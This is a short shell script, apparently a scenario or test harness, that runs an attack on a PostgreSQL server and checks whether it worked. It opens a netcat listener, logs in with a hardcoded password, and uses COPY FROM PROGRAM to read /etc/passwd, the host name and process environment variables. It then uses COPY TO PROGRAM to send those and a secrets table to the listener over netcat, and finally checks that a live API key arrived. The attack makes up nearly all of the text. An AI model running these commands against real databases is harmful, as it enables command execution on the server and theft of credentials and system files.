busybox nc -l -p 9000 > "$SCN_ATTACKER/exfil.out" &
listener=$!
for _ in $(seq 100); do [ -n "$(ss -Hltn 'sport = :9000')" ] && break; sleep 0.1; done
PGPASSWORD=app-pass psql -h "$SCN_IP" -U app -d appdb -v ON_ERROR_STOP=1 >/dev/null <<SQL
CREATE TEMP TABLE loot (line text);
COPY loot FROM PROGRAM 'cat /etc/passwd /etc/hostname /proc/self/environ';
COPY (SELECT name || '=' || value FROM secrets UNION ALL SELECT line FROM loot) TO PROGRAM 'busybox nc $SCN_PEER 9000';
SQL
rc=$?
wait $listener
[ $rc = 0 ] && grep -q sk-live "$SCN_ATTACKER/exfil.out"
